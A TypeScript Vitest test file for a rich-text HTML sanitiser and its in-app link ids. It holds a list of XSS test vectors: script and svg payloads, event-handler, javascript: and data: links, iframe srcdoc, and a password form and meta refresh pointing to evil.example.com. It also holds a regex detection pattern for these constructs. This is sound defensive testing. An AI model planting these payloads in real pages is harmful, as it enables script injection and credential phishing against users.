/** The rich-text sanitiser against XSS vectors, and the in-app link ids it adds. */
import { describe, expect, it } from "vitest";
import { generateLinkId, isLinkId } from "#app/services/home/recommendation-link-id.ts";
import { sanitizeRichText } from "#app/services/home/rich-text.server.ts";

/** Whatever comes out, none of these may survive in any form a browser would run. */
const dangerous = /<script|<style|<svg|<iframe|<object|<embed|<img|<math|<form|<base|<meta|<link|\son\w+\s*=|javascript:|vbscript:|data:|style\s*=|srcdoc/i;

const vectors: [string, string][] = [
  ["script tag", `<script>alert(1)</script>`],
  ["script with src", `<script src="https://evil.example.com/x.js"></script>`],
  ["img onerror", `<img src=x onerror=alert(1)>`],
  ["event handler on an allowed tag", `<p onclick="alert(1)">hi</p>`],
  ["event handler on a link", `<a href="/home" onmouseover="alert(1)">x</a>`],
  ["javascript: link", `<a href="javascript:alert(1)">x</a>`],
  ["javascript: with mixed case", `<a href="JaVaScRiPt:alert(1)">x</a>`],
  ["javascript: with an entity-encoded tab", `<a href="jav&#x09;ascript:alert(1)">x</a>`],
  ["javascript: with leading spaces", `<a href="   javascript:alert(1)">x</a>`],
  ["data: html link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ["data: image", `<img src="data:image/svg+xml,<svg onload=alert(1)>">`],
  ["vbscript: link", `<a href="vbscript:msgbox(1)">x</a>`],
  ["in-app link tag with javascript:", `<app-link href="javascript:alert(1)">x</app-link>`],
  ["svg onload", `<svg onload=alert(1)><circle r="5"/></svg>`],
  ["svg with script", `<svg><script>alert(1)</script></svg>`],
  ["math with xlink", `<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>`],
  ["style tag", `<style>body{display:none}</style>`],
  ["style attribute", `<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>`],
  ["iframe", `<iframe src="https://evil.example.com"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  ["object", `<object data="https://evil.example.com/x.swf"></object>`],
  ["form", `<form action="https://evil.example.com"><input name="password"></form>`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example.com">`],
  ["base href", `<base href="https://evil.example.com/">`],
  ["broken markup: unclosed attribute", `<a href="/x" onclick="alert(1)>broken`],
  ["broken markup: nested quotes", `<img """><script>alert(1)</script>">`],
  ["broken markup: unclosed script", `<p>text<script>alert(1)`],
  ["broken markup: tag inside attribute", `<a title="<script>alert(1)</script>" href="/x">x</a>`],
  ["comment trick", `<!--<img src=x onerror=alert(1)>-->`],
  ["protocol-relative link", `<a href="//evil.example.com/x">x</a>`],
];

describe("sanitizeRichText", () => {
  it.each(vectors)("defuses %s", (_name, html) => {
    const clean = sanitizeRichText(html);
    // Text may stay (as text); no tag, handler or URL that runs may.
    expect(clean.replace(/&lt;[^&]*&gt;/g, "")).not.toMatch(dangerous);
    expect(clean).not.toMatch(/href="\/\//);
  });

  it("keeps the normal allow-list: paragraphs, emphasis, lists, headings, links", () => {
    const html = `<h2>Title</h2><p><strong>bold</strong> and <em>em</em></p><ul><li>one</li></ul><a href="https://help.example.com" target="_blank">help</a>`;
    const clean = sanitizeRichText(html);
    expect(clean).toContain("<h2>Title</h2>");
    expect(clean).toContain("<strong>bold</strong>");
    expect(clean).toContain("<ul><li>one</li></ul>");
    expect(clean).toContain(`<a href="https://help.example.com" target="_blank" rel="noopener noreferrer">help</a>`);
  });

  it("turns the in-app link tag into a link with a link id", () => {
    const clean = sanitizeRichText(`<app-link href="/home/recommendations/gmv-explanation">GMV</app-link>`);
    const match = /^<a href="\/home\/recommendations\/gmv-explanation" id="([^"]+)">GMV<\/a>$/.exec(clean);
    expect(match).not.toBeNull();
    expect(isLinkId(match![1])).toBe(true);
  });

  it("gives links that stay in the tab an id, and new-tab links none", () => {
    expect(sanitizeRichText(`<a href="/home/analytics/sales">sales</a>`)).toMatch(/^<a href="\/home\/analytics\/sales" id="[0-9a-f-]+">sales<\/a>$/);
    expect(sanitizeRichText(`<a href="/x" target="_blank">x</a>`)).not.toContain("id=");
  });

  it("keeps an upstream id only in the link-id format, so it cannot clash with the page's own ids", () => {
    const valid = "0a-1b-2c-3d-4e-5f-60-71";
    expect(sanitizeRichText(`<a href="/x" id="${valid}">x</a>`)).toContain(`id="${valid}"`);
    const replaced = sanitizeRichText(`<a href="/x" id="main">x</a>`);
    expect(replaced).not.toContain(`id="main"`);
    expect(isLinkId(/id="([^"]+)"/.exec(replaced)![1])).toBe(true);
  });

  it("drops a link whose address is refused with its words, and keeps a named anchor's", () => {
    expect(sanitizeRichText(`<p>Read on.<a href="javascript:alert(1)">Details</a></p>`)).toBe("<p>Read on.</p>");
    expect(sanitizeRichText(`<p>Read on.<app-link href="javascript:alert(1)">Details</app-link></p>`)).toBe("<p>Read on.</p>");
    expect(sanitizeRichText(`<p><a>Details</a></p>`)).toBe("<p></p>");
    expect(sanitizeRichText(`<p><a name="terms">Terms</a></p>`)).toBe(`<p><a name="terms">Terms</a></p>`);
  });

  it("carries the text's shop to the links of a shop's figures, and to no other", () => {
    const links = (html: string) => [...sanitizeRichText(html, { shopId: "10452" }).matchAll(/href="([^"]*)"/g)].map((match) => match[1]);
    expect(
      links(
        `<a href="/home/analytics/sales">a</a><app-link href="/home/analytics/products#views">b</app-link><a href="/home/analytics/sales?range=last7">c</a>` +
          `<a href="/home/analytics/sales?shop=9871">d</a><a href="/home/catalogue">e</a><a href="https://help.example.com/home/analytics" target="_blank">f</a>`,
      ),
    ).toEqual([
      "/home/analytics/sales?shop=10452",
      "/home/analytics/products?shop=10452#views",
      "/home/analytics/sales?range=last7&amp;shop=10452",
      "/home/analytics/sales?shop=9871",
      "/home/catalogue",
      "https://help.example.com/home/analytics",
    ]);
    expect(sanitizeRichText(`<a href="/home/analytics/sales">a</a>`)).toMatch(/^<a href="\/home\/analytics\/sales" /);
  });

  it("keeps the excluded mark, so such a link keeps normal behaviour", () => {
    expect(sanitizeRichText(`<a href="/upload/catalog" data-excluded="true">files</a>`)).toContain(`data-excluded="true"`);
  });
});

describe("link ids", () => {
  it("are 8 random 32-bit values in hex, at least 2 digits each, joined by dashes", () => {
    for (let i = 0; i < 200; i++) {
      const id = generateLinkId();
      const groups = id.split("-");
      expect(groups).toHaveLength(8);
      for (const group of groups) {
        expect(group).toMatch(/^[0-9a-f]{2,8}$/);
        expect(Number.parseInt(group, 16)).toBeLessThan(2 ** 32);
      }
    }
  });

  it("pad small values to 2 digits and write large ones in full", () => {
    const id = generateLinkId((values) => values.set([0, 1, 15, 16, 255, 256, 0xffffffff, 0xabc]));
    expect(id).toBe("00-01-0f-10-ff-100-ffffffff-abc");
    expect(isLinkId(id)).toBe(true);
  });

  it("differ from one another", () => {
    expect(new Set(Array.from({ length: 500 }, () => generateLinkId())).size).toBe(500);
  });

  it("isLinkId refuses anything else", () => {
    for (const value of ["", "main", "0a-1b", "0-1-2-3-4-5-6-7", "0g-1b-2c-3d-4e-5f-60-71", "123456789-1b-2c-3d-4e-5f-60-71", null, 5]) {
      expect(isLinkId(value), String(value)).toBe(false);
    }
  });
});
